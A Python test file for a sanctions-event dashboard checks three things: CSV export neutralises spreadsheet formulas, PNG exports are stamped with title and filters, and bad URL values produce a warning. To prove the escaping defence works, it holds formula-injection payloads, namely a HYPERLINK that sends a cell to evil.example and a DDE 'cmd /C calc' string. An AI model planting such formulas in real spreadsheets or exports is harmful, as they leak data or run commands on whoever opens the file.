"""Exports: CSV safe to open in a spreadsheet, the PNG stamped, odd URL values reported."""

from __future__ import annotations

import csv
import io

import pandas as pd
from test_callbacks import find, texts

from dashboards import data

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1)'


def selection_frame(**overrides) -> pd.DataFrame:
    """One exported row as export_frame gives it, with some cells replaced."""
    row = {
        "event_id": "e1",
        "event_date": pd.Timestamp("2019-01-23"),
        "title": "Plain",
        "summary": "United States sanctions officials",
        "sources": ["United States"],
        "targets": ["Venezuelan officials"],
        "countries": ["USA", "VEN"],
        "confidence": -0.5,
        "url": "https://example.org/a",
    }
    row.update(overrides)
    return pd.DataFrame([row])


def exported_row(frame: pd.DataFrame) -> dict:
    """The single row of the CSV export, as a spreadsheet would read its cells."""
    return next(csv.DictReader(io.StringIO(data.to_csv(frame), newline="")))


def test_a_formula_title_is_exported_as_text_not_as_a_formula():
    row = exported_row(selection_frame(title=HYPERLINK))
    assert row["title"] == "'" + HYPERLINK


def test_every_formula_start_of_owasp_is_neutralised_in_any_text_column():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        row = exported_row(
            selection_frame(summary=f"{start}cmd|' /C calc'!A0", sources=[f"{start}SUM(A1)"])
        )
        assert row["summary"].startswith("'" + start), start
        assert row["sources"].startswith("'" + start), start


def test_ordinary_cells_and_numbers_are_exported_unchanged():
    row = exported_row(selection_frame())
    assert row["title"] == "Plain"
    assert row["sources"] == "United States"
    assert row["countries"] == "USA; VEN"
    assert float(row["confidence"]) == -0.5
    assert row["url"] == "https://example.org/a"


def test_the_png_stamp_names_title_filters_source_and_as_of_date(store):
    from dashboards import export
    from dashboards.state import ViewState
    from tracker.query import EventFilter

    found = data.summary(store)
    stamp = export.png_stamp(
        ViewState(EventFilter(countries=("VEN",), event_types=("SANCTION_IMPOSE",))), found
    )
    assert stamp["title"] == export.TITLE
    assert stamp["filters"] == "Filters: Event type: Sanctions imposed; Countries: VEN"
    assert stamp["source"].startswith("Source: ") and stamp["source"].endswith("2021-06-22")
    assert stamp["filename"] == "timeline-Sanctions-imposed-VEN-as-of-2021-06-22"
    default = export.png_stamp(ViewState(), found)
    assert default["filename"] == "timeline-as-of-2021-06-22"
    assert default["filters"] == "Filters: No filters: every event in the store"


def test_unknown_url_values_are_named_not_dropped_silently(store):
    from dashboards import notices

    options = data.summary(store).options
    problems = notices.unknown_values(
        "?type=SANCTION_IMPOS&country=VEN&colour=red&start=2019-13-45", options
    )
    assert problems == [
        "event type “SANCTION_IMPOS” (not in this store)",
        "unknown setting “colour”",
        "start date “2019-13-45” (not a YYYY-MM-DD date)",
    ]
    assert notices.unknown_values("?type=SANCTION_IMPOSE&country=VEN", options) == []


def test_the_page_opened_from_a_bad_link_shows_a_warning_naming_the_value(store):
    from dash import html

    from dashboards import app as app_module
    from dashboards import ids, layout

    app = app_module.create_app(store)
    url = "http://127.0.0.1:8050/?type=SANCTION_IMPOS&country=VEN"
    with app.server.test_request_context("/_dash-layout", headers={"Referer": url}):
        page = layout.build(store)
    warning = next(c for c in find(page, html.Div) if getattr(c, "id", None) == ids.URL_WARNING)
    assert warning.role == "alert" and not getattr(warning, "hidden", False)
    assert "event type “SANCTION_IMPOS” (not in this store)" in texts(warning)
    clean = layout.build(store)
    quiet = next(c for c in find(clean, html.Div) if getattr(c, "id", None) == ids.URL_WARNING)
    assert quiet.hidden is True
